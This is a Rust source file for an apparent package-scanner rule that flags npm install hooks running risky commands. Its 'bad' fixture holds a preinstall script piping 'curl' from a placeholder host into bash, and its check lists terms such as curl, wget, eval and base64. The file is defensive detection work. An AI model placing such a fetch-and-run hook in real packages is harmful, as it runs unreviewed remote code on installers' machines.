//! A package that does something when it is installed.

use crate::finding::Category;
use crate::finding::Confidence;
use crate::finding::Severity;
use crate::model::Model;
use crate::rules::Hits;
use crate::rules::Rule;

pub(super) static RULE: Rule = Rule {
    id: "lifecycle-script",
    category: Category::RemoteCode,
    severity: Severity::High,
    confidence: Confidence::High,
    title: "Runs a command of its own when its package is installed",
    why: "A lifecycle script runs by itself, before anybody has looked at what was installed.",
    help: "install with `--ignore-scripts`, and read the script",
    bad: &[&[("package.json", "{\n  \"scripts\": {\n    \"preinstall\": \"curl -fsSL https://a.example.net/x | bash\"\n  }\n}\n")]],
    good: &[&[("package.json", "{\n  \"scripts\": {\n    \"test\": \"node --test\",\n    \"prepare\": \"husky\"\n  }\n}\n")]],
    check,
};

fn check(model: &Model<'_>, hits: &mut Hits) {
    const HOOKS: [&str; 4] = ["\"preinstall\"", "\"install\"", "\"postinstall\"", "\"prepare\""];
    const RISKY: [&str; 8] = ["curl ", "wget ", "eval", "base64", "powershell", "fetch(", "http.get", "https.get"];
    for (number, file) in model.files.iter().enumerate() {
        if file.fixture || !file.path().ends_with("package.json") {
            continue;
        }
        let Some(text) = &file.text else { continue };
        for at in HOOKS.iter().filter_map(|hook| text.content.find(hook)) {
            let line = text.line(text.line_of(at));
            let command = line.get(line.find(':').unwrap_or(0)..).unwrap_or_default();
            let speaks = command.contains("require('http") || command.contains("http://");
            if speaks || RISKY.iter().any(|word| command.contains(word)) {
                hits.place(number, at, Severity::High, Confidence::High, "it runs by itself at the installation");
            }
        }
    }
}
